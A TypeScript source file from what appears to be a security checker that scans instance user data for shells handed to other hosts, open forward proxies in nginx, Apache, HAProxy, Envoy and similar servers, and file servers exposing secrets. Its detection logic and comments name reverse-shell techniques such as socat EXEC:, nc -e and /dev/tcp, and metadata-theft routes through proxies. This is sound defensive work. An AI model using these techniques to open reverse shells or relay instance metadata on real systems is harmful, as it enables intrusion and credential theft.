/**
 * Relays and forwarders to this host: shells handed out, forward proxies, web servers' configurations (nginx, Apache
 * httpd, lighttpd, Caddy, Envoy), firewall forwards (firewalld, iptables, nft), tunnels dialled out (cloudflared,
 * chisel ...), command forwarders, and the join of loopback ends to what listens there (loopbackJoin). Split from
 * userData.ts.
 */
import { parseAllDocuments } from "yaml";
import { parse as parseToml } from "smol-toml";
import { posix } from "path";
import { holdsNodeSecrets, rootPowerSocket } from "../podSpec";
import { appletWords, interpreterName, programIndex, X_TERMINALS, xDisplayOption, simpleCommands } from "../shell";
import { programOptions, loaderEnvironment } from "../rootReads";
import { NodeOpening } from "./shared";
import { list, obj } from "./formats";
import { addressHost, connectsToThisHost, ipAddress, loopbackOnly } from "./addresses";
import {
    BALANCER_VALUES,
    busyboxHttpdConfig,
    busyboxHttpdListeners,
    CHISEL_SERVER_VALUES,
    clientWords,
    configLines,
    dropbearSshArgs,
    Forwarder,
    forwarderMarks,
    getopt,
    globNames,
    goFlags,
    includeUnknown,
    interfaceAddress,
    isAddress,
    isHostPort,
    knownClient,
    Listener,
    listenerOpenings,
    localOnly,
    longValues,
    LoopbackEnd,
    loopbackEnd,
    LoopbackMark,
    ncatCommand,
    NO_VIEW,
    NodeLink,
    NOT_UNREAD_SERVERS,
    optionValues,
    OTHER_HOST_NAME,
    READ_RELAYS,
    readConfig,
    relayEnd,
    reverseSocks,
    runsClientCommands,
    scriptCommands,
    ScriptView,
    servedRelays,
    SOCAT_LISTENER,
    socatEnd,
    sshCommand,
    sshDestination,
    threeProxyServices,
    xinetdServices,
} from "./listeners";
import { pythonEntry } from "./pythonCode";
import { CODE_LOADERS, loadedCode } from "./loaders";
import { autosshSshArgs, SERVERS } from "./commandServers";
import { SHARER_INFO, SHELL_IN_CODE, SHELL_SHARERS, shellHandedOut, SOCKET_SHELL_CODE } from "./systemd";

/**
 * Where a root command hands a shell on the node to another host (round 59: the class of a program that connects out
 * and hands the connection a shell, or a local end of it, to whoever holds the other end):
 * - a relay dialling out (dialledOutPeers: socat EXEC:/SYSTEM:/SHELL: joined to a connecting address, ncat/nc -e, -c,
 *   --sh-exec, --lua-exec in connect mode) whose program runs what the connection sends (runsClientCommands: a shell,
 *   an interpreter reading its input), or a script user data wrote that does; a Lua script or a script changed in a
 *   way the pack cannot compute, failing closed. A far end on this instance's loopback is a local client;
 * - a terminal-sharing program (SHELL_SHARERS);
 * - interpreter code (SOCKET_SHELL_CODE: an inline program, or the script user data wrote that it runs; Python's
 *   -c/-m/script through pythonEntry) that uses a socket and a shell, pty or subprocess: a reverse or bind shell, its
 *   host whatever the code names (fail closed: the pack does not evaluate the code). A script it cannot read (a
 *   download) is judged as any program the pack cannot read is.
 * A /dev/tcp connection a shell reads is lineRelays'.
 */
export function shellsHandedOut(
    words: readonly string[],
    cwd: string | undefined,
    fileText: ((path: string) => string | undefined) | undefined,
    view: ScriptView,
): string[] {
    const name = posix.basename(words[0] ?? "");
    const args = words.slice(1);
    const line = words.join(" ");
    // A written script run by its path whose #! names perl or ruby (CODE_LOADERS shebang) is that interpreter run on
    // the file (execve(2): "interpreter [optional-arg] pathname arg..."; `env NAME` runs NAME); its #! switches are
    // read with its code (loadedCode).
    const text = /\//.test(words[0] ?? "")
        ? readConfig(posix.resolve(cwd ?? "/", words[0]), fileText, view)
        : undefined;
    const hashBang = typeof text === "string" ? /^#!\s*(\S+)[ \t]*([^\n]*)/.exec(text) : null;
    const runs = hashBang
        ? posix.basename(hashBang[1]) === "env"
            ? hashBang[2].split(/\s+/).find(w => !w.startsWith("-") && !w.includes("="))
            : hashBang[1]
        : undefined;
    if (
        runs !== undefined &&
        CODE_LOADERS.some(
            l => l.shebang?.test(posix.basename(runs)) && l.names.test(interpreterName(posix.basename(runs))),
        )
    )
        return shellsHandedOut([posix.basename(runs), words[0], ...args], cwd, fileText, view);
    const out: string[] = [];
    for (const { far, program } of dialledOutPeers(name, args) ?? []) {
        if (program === undefined || loopbackOnly([far])) continue;
        const scripts = program === null ? { lines: [], unread: true } : scriptCommands([program], fileText, view);
        if (program === null || scripts.unread || [program, ...scripts.lines].some(l => runsClientCommands(l)))
            out.push(
                `${line} runs ${program ?? "a Lua script the pack does not read"} on its connection to ${far} (another host)`,
            );
    }
    const sharer = SHELL_SHARERS.find(
        t =>
            t.names.test(name) &&
            (t.commands === undefined || t.commands.test(args.find(w => !w.startsWith("-")) ?? "")) &&
            (t.options === undefined || args.some(w => t.options!.test(w))),
    );
    if (sharer && !args.some(w => SHARER_INFO.test(w)))
        out.push(`${line} shares the node's terminal with whoever holds ${sharer.far}`);
    // A terminal emulator on another host's X server (-display, --display, DISPLAY: rootReads environmentOptions): whoever
    // sits at that display types into its shell (X(7) "DISPLAY NAMES": `hostname:N`; `:N`, `unix:N` are local).
    if (X_TERMINALS.test(name)) {
        const display = args
            .flatMap((w, i) => {
                const glued = /^(-[^=]+)=(.*)$/.exec(w);
                return glued && xDisplayOption(name, glued[1])
                    ? [glued[2]]
                    : xDisplayOption(name, args[i - 1] ?? "")
                      ? [w]
                      : [];
            })
            .at(-1);
        const host = display === undefined ? "" : display.replace(/:\d+(\.\d+)?$/, "").replace(/^\[|\]$/g, "");
        if (host !== "" && host !== "unix" && !loopbackOnly([host]))
            out.push(`${line} opens a terminal on the X server at ${display} (another host)`);
    }
    // A versioned interpreter (perl5.36) is its program (shell.ts interpreterName).
    const interpreter = SOCKET_SHELL_CODE.find(t => t.names.test(interpreterName(name)));
    if (interpreter) {
        const python = /^python/.test(name) ? pythonEntry(args, cwd ?? "/", fileText, view) : undefined;
        // Its options read by its program's grammar where the pack has one (rootReads programOptions: getopt's
        // bundles, a value glued to its short option (`-e'code'` is `-e 'code'`: perlrun(1), ruby(1), php_getopt,
        // gawk's getopt_long), `--long=value`, unique prefixes); an option word it cannot read is judged as code too
        // (fail closed). Otherwise a code option's value is the next word or glued with `=` (`--eval=TEXT`).
        const read = programOptions(words);
        // The script file an option names (-f/--file: awk's program file, php's script; gawk's -E/--exec).
        const scriptFile = read?.values.find(
            ([o]) => /^(-f|--file|--exec)$/.test(o) || (o === "-E" && interpreter.operands),
        )?.[1];
        const programFile = read ? scriptFile !== undefined : args.some(w => /^(-f|--file)(=|$)/.test(w));
        const inline = read
            ? [
                  ...read.values.filter(([o]) => interpreter.code.test(o)).map(([, v]) => v),
                  ...(interpreter.operands && !programFile ? read.positional.map(p => p.word) : []),
              ]
            : args.flatMap((w, i) => {
                  const glued = /^(--[\w-]+)=([\s\S]*)$/.exec(w);
                  return glued && interpreter.code.test(glued[1])
                      ? [glued[2]]
                      : interpreter.code.test(args[i - 1] ?? "") ||
                          (interpreter.operands && !programFile && !w.startsWith("-"))
                        ? [w]
                        : [];
              });
        const script = read
            ? (scriptFile ?? read.positional[0]?.word)
            : args.find((w, i) => !w.startsWith("-") && !interpreter.code.test(args[i - 1] ?? ""));
        // lua(1) runs its -e chunks, then the script ("-e stat: execute string stat"; LUA_INIT's code is one: rootReads
        // environmentOptions).
        const scriptText =
            (inline.length === 0 || /^(lua|luajit)$/.test(interpreterName(name))) &&
            script !== undefined &&
            !/^python/.test(name)
                ? readConfig(posix.resolve(cwd ?? "/", script), fileText, view)
                : undefined;
        const programs = [
            ...(/^python/.test(name) ? [] : [...inline, ...(read?.unknown ?? [])]),
            ...(typeof scriptText === "string" ? [scriptText] : []),
        ];
        // What it loads besides (CODE_LOADERS): judged with its program, as one program.
        const loaded = /^python/.test(name)
            ? { texts: [], unread: [] }
            : loadedCode(
                  interpreterName(name),
                  read ? [...read.values, ...read.flags.map((f): [string, string] => [f, ""])] : [],
                  programs,
                  cwd ?? "/",
                  fileText,
                  view,
                  loaderEnvironment(words),
                  typeof scriptText === "string" && script !== undefined
                      ? { path: posix.resolve(cwd ?? "/", script), text: scriptText, given: script }
                      : undefined,
              );
        const texts = [
            ...(python && !("flask" in python) ? python.files.map(f => f.text) : []),
            ...programs,
            ...(scriptText === null ? [scriptText] : []),
            ...(loaded.texts.length === 0 ? [] : [[...programs, ...loaded.texts].join("\n")]),
        ];
        if (
            texts.some(
                t =>
                    typeof t === "string" &&
                    interpreter.socket.test(t) &&
                    (SHELL_IN_CODE.test(t) || interpreter.shell?.test(t)),
            )
        )
            out.push(
                `${line}: code that connects or accepts a socket and runs a shell, a pty or a subprocess (a reverse shell to the host it names, or a bind shell for whoever connects)`,
            );
        for (const what of loaded.unread)
            out.push(
                `${line} loads ${what}: code the pack cannot read, which may connect out and run a shell (a reverse shell)`,
            );
    }
    return out;
}

/**
 * Whether a proxy's upstream URL takes its host from the request: a variable, a regex capture or a server variable in
 * the authority (nginx ngx_http_proxy_module, proxy_pass: "Parameter value can contain variables"; httpd mod_rewrite's
 * %{HTTP_HOST} and $N, ProxyPassMatch's $N). Variables of the request's path after a literal host ($request_uri, $uri,
 * $args ...) choose no host.
 */
function hostFromRequest(url: string): boolean {
    const rest = url.replace(/^["']|["']$/g, "").replace(/^[^/]*:\/\//, "");
    const authority = rest
        .split("/")[0]
        .replace(/\$\{?(request_uri|uri|document_uri|is_args|args|query_string)\b.*$/, "");
    return /\$|%\{/.test(authority);
}

/** Every value a directive takes: nginx puts several directives on one line (`server { listen 3128; ... }`). */
export const directiveValues = (lines: readonly string[], re: RegExp) =>
    lines.flatMap(l =>
        [...l.matchAll(new RegExp(re.source, re.flags.includes("g") ? re.flags : `${re.flags}g`))].map(m => m[1]),
    );

/**
 * Where each server a configuration sets up listens: nginx `listen`, Apache httpd's and tinyproxy's `Listen`, HAProxy
 * `bind`, Envoy's socket_address `address`, Privoxy `listen-address`, squid `http_port`/`https_port`.
 */
export const LISTENS = {
    nginx: /(?:^|[{;])\s*listen\s+([^;\s}]+)/,
    httpd: /^\s*Listen\s+(\S+)/i,
    haproxy: /^\s*bind\s+(\S+)/,
    envoy: /^\s*["']?address["']?\s*:\s*["']?([0-9a-fA-F.:[\]*]+|localhost)["']?\s*,?\s*$/,
    privoxy: /^\s*listen-address\s+(\S+)/,
    squid: /^\s*https?_port\s+(\S+)/,
};

/**
 * Whether a configuration relaying instance metadata serves only the instance's own processes: each of its servers
 * listens on loopback (loopbackOnly); none named is the server's default, every address (nginx *:80, httpd Listen 80).
 */
export function configListensLocally(text: string): boolean {
    const lines = configLines(text);
    return loopbackOnly(
        Object.values(LISTENS).flatMap(re => directiveValues(lines, re).flatMap(v => v.replace(/;$/, "").split(","))),
    );
}

/**
 * Forward proxies a configuration sets up (beyond squid's, judged with its link-local deny): a node process relaying
 * whatever host a client names, instance metadata included, one hop from IMDS, so the hop limit of 1 protects nothing
 * (AWS Security Blog, "Add defense in depth against open firewalls, reverse proxies, and SSRF vulnerabilities with
 * enhancements to the EC2 Instance Metadata Service": the hop limit is the IMDSv2 token response's IP TTL). A proxy
 * bound to loopback only (loopbackOnly) is accepted; a fixed upstream is not a forward proxy (one naming instance
 * metadata is refused as a relay where it is named).
 * - nginx: proxy_pass whose host comes from the request (hostFromRequest), in http{} or stream{} (`proxy_pass
 *   $upstream`); `listen` defaults to *:80 (nginx ngx_http_core_module, listen);
 * - Apache httpd: `ProxyRequests On` ("Forward Proxies and Reverse Proxies/Gateways": a forward proxy), a
 *   ProxyPass/ProxyPassMatch or a RewriteRule [P] whose host comes from the request; `Listen` (httpd.conf's default is
 *   Listen 80);
 * - HAProxy: `option http_proxy` (the server address taken from the request URI) or `http-request set-dst` from
 *   anything but a literal address (HAProxy configuration manual); `bind`;
 * - Envoy: the dynamic forward proxy filter or cluster (Envoy docs, "Dynamic forward proxy": upstream chosen by the
 *   Host header) or an original_dst cluster using the x-envoy-original-dst-host header; socket_address `address`;
 * - Privoxy (a forward proxy by design): `listen-address` (default 127.0.0.1:8118);
 * - tinyproxy: a forward proxy unless `ReverseOnly Yes`; `Listen` (default every address) and `Allow` (none: every
 *   client);
 * - Dante's sockd (sockd.conf(5)): a SOCKS proxy on each `internal:` address or interface, admitting the sources of
 *   its `client pass` rules (none: no client); commands' SOCKS proxies are SERVERS.
 */
export function forwardProxies(text: string): string[] {
    const lines = configLines(text);
    const values = (re: RegExp) => directiveValues(lines, re);
    const reachable = (listens: string[]) => !loopbackOnly(listens);
    const out: string[] = [];
    const nginx = nginxServers(text)
        .filter(server => reachable(server.listens))
        .flatMap(server => server.passes)
        .find(hostFromRequest);
    if (nginx)
        out.push(
            `nginx proxies to the host a client names (proxy_pass ${nginx}) on an address beyond loopback: name the upstream literally or listen on 127.0.0.1 only`,
        );
    const httpdForward = lines.find(l => /^\s*ProxyRequests\s+On\b/i.test(l));
    const httpdVariable = httpdProxyTargets(lines).find(t => hostFromRequest(t.url))?.line;
    const httpd = httpdForward ?? httpdVariable;
    if (httpd && reachable(values(LISTENS.httpd)))
        out.push(
            `Apache httpd proxies to the host a client names (${httpd.trim()}) on an address beyond loopback: use ProxyPass to a literal upstream with ProxyRequests Off, or Listen on 127.0.0.1 only`,
        );
    const haproxy = lines.find(
        l =>
            /^\s*option\s+http_proxy\b/.test(l) ||
            /^\s*(http|tcp)-request\s+(connection\s+|content\s+|session\s+)?set-dst\s+(?!ipv[46]\()/.test(l),
    );
    if (haproxy && reachable(values(LISTENS.haproxy).flatMap(b => b.split(","))))
        out.push(
            `HAProxy connects to the address a client names (${haproxy.trim()}) on a bind beyond loopback: use servers with literal addresses or bind 127.0.0.1 only`,
        );
    const envoy = lines.find(l => /\bdynamic_forward_proxy\b/.test(l) || /\buse_http_header["']?\s*:\s*true\b/.test(l));
    if (envoy && reachable(values(LISTENS.envoy)))
        out.push(
            `Envoy forwards to the host a client names (${envoy.trim()}) on a listener beyond loopback: route to static clusters or listen on 127.0.0.1 only`,
        );
    const privoxy = values(LISTENS.privoxy);
    if (privoxy.length > 0 && reachable(privoxy))
        out.push(`Privoxy, a forward proxy, listens on ${privoxy.join(", ")}: keep listen-address 127.0.0.1:8118`);
    const tinyproxy =
        lines.some(l => /^\s*Port\s+\d+\s*$/.test(l)) &&
        lines.some(l =>
            /^\s*(Allow|ViaProxyName|DisableViaHeader|ConnectPort|ReversePath|XTinyproxy|StatFile|DefaultErrorFile)\s/.test(
                l,
            ),
        ) &&
        !lines.some(l => /^\s*ReverseOnly\s+Yes\b/i.test(l));
    const allowed = values(/^\s*Allow\s+(\S+)/);
    const listens = values(LISTENS.httpd);
    if (tinyproxy && reachable(listens) && (allowed.length === 0 || reachable(allowed)))
        out.push(
            `tinyproxy, a forward proxy, serves ${allowed.length === 0 ? "every client" : allowed.join(", ")} on ${listens.length === 0 ? "every address" : listens.join(", ")}: Allow 127.0.0.1 only or set ReverseOnly Yes`,
        );
    const internal = values(/^\s*internal\s*:\s*(\S+)/).map(interfaceAddress);
    const clients = [...lines.join("\n").matchAll(/\bclient\s+pass\s*\{([^}]*)\}/g)].flatMap(rule =>
        [...rule[1].matchAll(/\bfrom\s*:\s*(\S+)/g)].map(from => from[1]),
    );
    if (internal.length > 0 && clients.length > 0 && !localOnly(internal, clients))
        out.push(
            `Dante's sockd, a SOCKS proxy, serves ${clients.join(", ")} on ${internal.join(", ")}: set internal: 127.0.0.1 or pass clients from 127.0.0.0/8 only`,
        );
    return out;
}

/** Apache httpd's main configuration file (AL2023's httpd package). */
const HTTPD_CONF = "/etc/httpd/conf/httpd.conf";

/**
 * The configuration a web server's packaged main file includes (AL2023's and Fedora's packages), read by the server
 * whatever user data writes: nginx.conf's `include /etc/nginx/conf.d/*.conf;` (http block) and `include
 * /etc/nginx/default.d/*.conf;` (its default server), httpd.conf's `IncludeOptional conf.d/*.conf` and `Include
 * conf.modules.d/*.conf`, Fedora's Caddyfile `import Caddyfile.d/*.caddyfile`.
 */
export const PACKAGED_INCLUDES: readonly [string, string][] = [
    ["nginx", "/etc/nginx/conf.d/*.conf"],
    ["nginx", "/etc/nginx/default.d/*.conf"],
    ["Apache httpd", "/etc/httpd/conf.d/*.conf"],
    ["Apache httpd", "/etc/httpd/conf.modules.d/*.conf"],
    ["Caddy", "/etc/caddy/Caddyfile.d/*.caddyfile"],
];

// Round 88: includeUnknown and globNames live in listeners.ts (unreadConfigFileListeners follows includes too).
export { includeUnknown };

/**
 * A Caddyfile's lines with each `import` of files user data wrote whole spliced in (Caddy docs "import": "Includes a
 * snippet or file, replacing this token with the contents"; a glob "imports all matching files"; a relative path from
 * the Caddyfile's directory, /etc/caddy here), nested imports alike; an import of a file the pack cannot read (one
 * changed so, `{args}` placeholders, a glob over such a file: includeUnknown) stays, as a site whose root is unknown.
 * A file user data never touched is none: Caddy refuses to start on a missing import.
 */
function caddyExpanded(lines: readonly string[], view: ScriptView, depth = 0): string[] {
    const snippets = new Set(lines.flatMap(l => /^\s*\(([^()\s]+)\)\s*\{?\s*$/.exec(l)?.[1] ?? []));
    return lines.flatMap(l => {
        const m = /^\s*import\s+(\S+)\s*$/.exec(l);
        if (m === null || depth > 4 || snippets.has(m[1]) || /[{}]/.test(m[1])) return [l];
        const target = posix.resolve("/etc/caddy", m[1].replace(/^["']|["']$/g, ""));
        if (includeUnknown(target, view) !== undefined) return [l];
        const glob = /[*?[{]/.test(target);
        const files = glob ? [...(view.written?.() ?? [])].filter(p => globNames(target, p)) : [target];
        return files.flatMap(f => {
            const text = view.text?.(f);
            return text === undefined
                ? []
                : caddyExpanded(
                      text.split(/\r?\n/).map(t => t.replace(/(^|\s)#.*$/, "")),
                      view,
                      depth + 1,
                  );
        });
    });
}

/** The nginx prefix relative `root`/`alias` paths resolve from (AL2023's and Fedora's package: --prefix=/usr/share/nginx). */
const NGINX_PREFIX = "/usr/share/nginx";

/**
 * The file servers a web server's configuration sets up, each with the directory it serves (undefined when the pack
 * cannot resolve it: a variable) and where it listens ([]: the server's default, every address), judged as every node
 * file server is (listenerOpenings: node secrets at, above or inside it, or a directory it cannot know, beyond
 * loopback; its workers' user is not read: a root-run server's files, fail closed):
 * - nginx (nginxServers): `root` and `alias` (ngx_http_core_module), relative to the prefix; `listen` (default *:80);
 * - Apache httpd: `DocumentRoot` and `Alias`/`AliasMatch` (mod_alias) on its `Listen` addresses with the main
 *   httpd.conf's (the package's `Listen 80`, every address), or its `<VirtualHost>`'s;
 * - lighttpd: `server.document-root` and `alias.url` on `server.bind` and each `$SERVER["socket"]` (lighttpd docs
 *   "server.bind": default every address), or on the socket whose conditional holds them;
 * - Caddy: each site's roots on its own binds (imports of written files spliced in: caddyExpanded).
 * Servers a packaged configuration includes are judged once the script ends (viewingJudge's settled).
 * Only the servers whose directory matters are returned (node secrets, or unknown), and Caddy's admin API beyond loopback.
 */
export function configFileServers(text: string, view: ScriptView = NO_VIEW): Listener[] {
    const lines = configLines(text);
    const resolve = (dir: string, base: string) =>
        /[$%]/.test(dir) ? undefined : posix.resolve(base, dir.replace(/^["']|["']$/g, ""));
    const out: Listener[] = [];
    for (const server of nginxServers(text))
        for (const root of server.roots)
            out.push({
                server: `nginx root ${root}`,
                binds: server.listens,
                serves: { files: resolve(root, NGINX_PREFIX) },
            });
    // Apache docs "Listen": httpd listens on every Listen of its configuration, the main httpd.conf's and those of the
    // files it includes (AL2023's packaged httpd.conf: `Listen 80`, every address; `IncludeOptional conf.d/*.conf`):
    // a text other than the main file adds its Listens to the main file's, user data's whole httpd.conf or else the
    // package's. A DocumentRoot/Alias inside `<VirtualHost ADDR:PORT ...>` (Apache docs "VirtualHost") is served
    // on the virtual host's addresses only (`*`/`_default_`: every address).
    const mainHttpd = view.text?.(HTTPD_CONF);
    const ownListens = directiveValues(lines, LISTENS.httpd);
    const httpdListens =
        mainHttpd === text
            ? ownListens
            : mainHttpd === undefined || ownListens.length === 0
              ? []
              : [...ownListens, ...directiveValues(configLines(mainHttpd), LISTENS.httpd)];
    let vhost: string[] | undefined;
    const httpdBinds = lines.map(l => {
        const open = /^\s*<VirtualHost\s+([^>]*)>/i.exec(l);
        if (open) vhost = open[1].trim().split(/\s+/);
        const binds = vhost === undefined ? httpdListens : vhost.some(a => /^(\*|_default_)(:|$)/.test(a)) ? [] : vhost;
        if (/^\s*<\/VirtualHost\s*>/i.test(l)) vhost = undefined;
        return binds;
    });
    for (const [i, l] of lines.entries())
        for (const m of l.matchAll(
            /^\s*(DocumentRoot)\s+("[^"]*"|\S+)|^\s*(Alias|AliasMatch)\s+("[^"]*"|\S+)\s+("[^"]*"|\S+)/gi,
        )) {
            const dir = m[2] ?? m[5];
            out.push({
                server: `Apache httpd ${m[0].trim()}`,
                binds: httpdBinds[i],
                serves: { files: resolve(dir, "/etc/httpd") },
            });
        }
    // mod_rewrite (Apache docs "RewriteRule", Substitution: "A full filesystem path to a resource": in server context
    // one whose first segment exists at the root of the file system is served as that file): the substitution's
    // literal directory up to its first variable or back-reference; one starting with either is unknown.
    for (const [i, l] of lines.entries())
        for (const m of l.matchAll(/^\s*RewriteRule\s+("[^"]*"|\S+)\s+("[^"]*"|\S+)/gi)) {
            const target = m[2].replace(/^"|"$/g, "");
            if (!target.startsWith("/") && !/^[$%]/.test(target)) continue;
            const literal = target.replace(/[$%].*$/s, "");
            out.push({
                server: `Apache httpd ${m[0].trim()}`,
                binds: httpdBinds[i],
                serves: {
                    files:
                        literal === ""
                            ? undefined
                            : posix.resolve(literal.endsWith("/") ? literal : posix.dirname(literal)),
                },
            });
        }
    // Caddy (Caddy docs "Caddyfile directives": `root [<matcher>] <path>`, "Sets the root path of the site, used by
    // ... file_server"; `file_server [<matcher>] [browse] { root <path> }`): each site block's roots, on the block's
    // address (its port on every address, Caddy's default; `bind` narrows it), when the file has a file_server. A
    // placeholder root is unknown. "Comments start with # and proceed until the end of the line" (Caddy docs
    // "Caddyfile Concepts", a # starting a token); a single site may go without braces (the same page), its
    // directives at depth 0. `import FILE|GLOB|SNIPPET` (Caddy docs "import": "Includes a snippet or file, replacing
    // this token with the contents"): a snippet `(name) { ... }` of this file is read where it is defined; a file user data
    // wrote whole is spliced in (caddyExpanded); any other may set any root, and a file_server, in the site importing
    // it, or add sites at the top level (fail closed).
    const caddyLines = caddyExpanded(
        lines.map(l => l.replace(/(^|\s)#.*$/, "")),
        view,
    );
    const snippets = new Set(caddyLines.flatMap(l => /^\s*\(([^()\s]+)\)\s*\{?\s*$/.exec(l)?.[1] ?? []));
    const caddyImport = (l: string) => {
        const m = /^\s*import\s+(\S+)(\s+\S.*)?$/.exec(l);
        return m !== null && !(snippets.has(m[1]) && m[2] === undefined);
    };
    // At the top level only an import of a path or glob, a line no program's import statement is (`import x from
    // 'y'`, `import os`, `import "fmt"`, `import java.util.List;`).
    const topImport = (l: string) =>
        /^import\s+[^\s"'`;{}()]*[/*][^\s"'`;{}()]*(\s+[^\s;"'`{}()=]+)*\s*$/.test(l.trim()) && !/\sfrom\s/.test(l);
    let importDepth = 0;
    const imports = caddyLines.some(l => {
        const found = importDepth > 0 ? caddyImport(l) : topImport(l);
        importDepth += (l.match(/\{/g) ?? []).length - (l.match(/\}/g) ?? []).length;
        return found;
    });
    // Round 71: Caddy's admin API (Caddy docs "Global options": `admin off|<addr>`, "Customizes the admin API
    // endpoint. If off, then the admin endpoint will be disabled ... Default: localhost:2019"; "API": POST /load "Sets
    // or replaces the active configuration", any site, root, reverse_proxy): on an address beyond loopback whoever
    // connects runs any server as root, a program the pack does not read there. The global options block is the
    // first block of the Caddyfile, with no keys (`{`); a unix socket (`unix//path`) is no network address. Caddy's
    // JSON configuration the same (Caddy docs "JSON Config Structure": `admin.listen`, `admin.disabled`).
    const caddyAdmin = (value: string, how: string): Listener[] =>
        /^(off|unix\/.*)$/i.test(value) || loopbackOnly([value.replace(/^tcp\//i, "")])
            ? []
            : [
                  {
                      server: `Caddy's admin API (${how})`,
                      binds: [value.replace(/^tcp\//i, "")],
                      serves: { unread: `Caddy's admin API (${how}: POST /load sets any configuration)` },
                  },
              ];
    const firstLine = caddyLines.findIndex(l => l.trim() !== "");
    if (firstLine >= 0 && caddyLines[firstLine].trim() === "{") {
        let depth = 0;
        for (const l of caddyLines.slice(firstLine)) {
            depth += (l.match(/\{/g) ?? []).length - (l.match(/\}/g) ?? []).length;
            const admin = /^\s*admin(?:\s+([^\s{}]+))?/.exec(l);
            if (admin && depth <= 2 && admin[1] !== undefined) out.push(...caddyAdmin(admin[1], `admin ${admin[1]}`));
            if (depth <= 0) break;
        }
    }
    if (/^\s*\{/.test(text))
        try {
            const admin = obj(obj(JSON.parse(text)).admin);
            if (typeof admin.listen === "string" && admin.disabled !== true)
                out.push(...caddyAdmin(admin.listen, `"admin": {"listen": "${admin.listen}"}`));
        } catch {
            // not JSON
        }
    if (imports || caddyLines.some(l => /^\s*file_server\b/.test(l))) {
        const addresses = (header: string) =>
            header
                .replace(/\{\s*$/, "")
                .split(/[\s,]+/)
                .filter(a => a !== "")
                .map(a => {
                    const port = /:(\d+)$/.exec(a.replace(/^[a-z]+:\/\//i, ""))?.[1];
                    return `:${port ?? (/^http:/i.test(a) ? "80" : "443")}`;
                });
        const bindsOf = (l: string) =>
            directiveValues([l], /^\s*bind\s+([^{}\n]+)/).flatMap(v => v.trim().split(/\s+/));
        // Without braces, the first line's addresses are the one site's (every address when the pack cannot tell).
        const first = caddyLines.find(l => l.trim() !== "");
        const bare =
            first !== undefined &&
            !/\{/.test(first) &&
            /^\s*(:\d+|[a-z]+:\/\/|[\w.-]+\.[a-z]+|localhost)\b/i.test(first);
        // Each site block's own `bind` (Caddy docs "bind": a site directive, "Overrides the interface to which the
        // server's socket should bind"), else the global options block's `default_bind`, else its addresses (their
        // ports on every address); outside any site (a top-level import) every address.
        const sites: { addresses: string[]; binds: string[] }[] = bare
            ? [{ addresses: addresses(first), binds: [] }]
            : [];
        const defaults: string[] = [];
        let depth = 0;
        let site: number | undefined = bare ? 0 : undefined;
        let global = false;
        const siteOf = caddyLines.map(l => {
            if (depth === 0 && /\{\s*$/.test(l)) {
                global = l.replace(/\{\s*$/, "").trim() === "";
                site = global ? undefined : sites.push({ addresses: addresses(l), binds: [] }) - 1;
            }
            const at = site;
            if (global)
                defaults.push(
                    ...directiveValues([l], /^\s*default_bind\s+([^{}\n]+)/).flatMap(v => v.trim().split(/\s+/)),
                );
            else if (at !== undefined) sites[at].binds.push(...bindsOf(l));
            depth += (l.match(/\{/g) ?? []).length - (l.match(/\}/g) ?? []).length;
            if (depth === 0 && !bare) {
                site = undefined;
                global = false;
            }
            return at;
        });
        for (const [i, l] of caddyLines.entries()) {
            const root = /^\s*root\s+(?:(?:\*|\/\S*|@\S+)\s+)?([^\s{};]+)\s*$/.exec(l);
            const at = siteOf[i];
            const imported = at === undefined ? topImport(l) : caddyImport(l);
            const own = at === undefined ? undefined : sites[at];
            if (root || imported)
                out.push({
                    server: `Caddy ${l.trim()}`,
                    binds:
                        own === undefined
                            ? []
                            : own.binds.length > 0
                              ? own.binds
                              : defaults.length > 0
                                ? defaults
                                : own.addresses,
                    serves: {
                        files:
                            !root || /[{}]/.test(root[1])
                                ? undefined
                                : posix.resolve("/", root[1].replace(/^["']|["']$/g, "")),
                    },
                });
        }
    }
    // lighttpd docs "server.bind" (default every address) and "Configuration File Syntax": `$SERVER["socket"] ==
    // "ip:port" { ... }` opens one more socket, beside server.bind's; what its block sets applies there only.
    const serverBinds = directiveValues(lines, /^\s*server\.bind\s*:?=\s*"([^"]*)"/);
    const lighttpdBinds =
        serverBinds.length === 0
            ? []
            : [...serverBinds, ...directiveValues(lines, /\$SERVER\["socket"\]\s*==\s*"([^"]*)"/)];
    const joined = lines.join("\n");
    /** The innermost socket conditional around `index` of the joined text, if any. */
    const socketAt = (index: number) => {
        const open: (string | undefined)[] = [];
        for (const m of joined.slice(0, index).matchAll(/\$SERVER\["socket"\]\s*==\s*"([^"]*)"\s*\{|\{|\}/g))
            if (m[0] === "}") open.pop();
            else open.push(m[1]);
        return [...open].reverse().find(s => s !== undefined);
    };
    const lighttpd: [string, string, string | undefined, readonly string[]][] = [
        ...[...joined.matchAll(/(?:^|\n)\s*server\.document-root\s*[+:]?=\s*([^\n]*)/g)].map(
            (m): [string, string, string | undefined, readonly string[]] => [
                "server.document-root",
                m[1].trim(),
                lighttpdValue(m[1], joined.slice(0, m.index)),
                [socketAt(m.index) ?? []].flat(),
            ],
        ),
        ...[...joined.matchAll(/(?:^|\n)\s*alias\.url\s*[+:]?=\s*\(([^)]*)\)/g)].flatMap(list =>
            [...list[1].matchAll(/=>\s*((?:"(?:\\.|[^"\\])*"|[^,"])+)/g)].map(
                (a): [string, string, string | undefined, readonly string[]] => [
                    "alias.url",
                    a[1].trim(),
                    lighttpdValue(a[1], joined.slice(0, list.index)),
                    [socketAt(list.index) ?? []].flat(),
                ],
            ),
        ),
    ];
    // `include_shell "command"` (lighttpd docs "Configuration File Syntax": "read configuration from output of a
    // command"): configuration the pack cannot read, any document root.
    for (const m of joined.matchAll(/(?:^|\n)\s*include_shell\s+([^\n]*)/g))
        lighttpd.push(["include_shell", m[1].trim(), undefined, []]);
    // `include VALUE` (same docs: "include, relative to dirname of main config file", /etc/lighttpd here; globs
    // allowed): a file user data changed in a way the pack cannot compute (a download, a copy, an edit), or a value it
    // cannot compute, may set any document root (fail closed, as include_shell). A file it wrote whole is read as
    // itself; one it never touched is the package's.
    // Only lighttpd's value syntax (a quoted string or a variable, `+` joined): nginx's `include mime.types;` and
    // httpd's `Include conf.d/*.conf` are theirs.
    for (const m of joined.matchAll(/(?:^|\n)\s*include\s+([^\n]*)/g)) {
        if (!/^\s*("|[A-Za-z_][\w.]*\s*(\+|$))/.test(m[1])) continue;
        const value = lighttpdValue(m[1], joined.slice(0, m.index));
        if (includeUnknown(value === undefined ? undefined : posix.resolve("/etc/lighttpd", value), view) !== undefined)
            lighttpd.push(["include", m[1].trim(), undefined, [socketAt(m.index) ?? []].flat()]);
    }
    for (const [directive, written, dir, socket] of lighttpd)
        out.push({
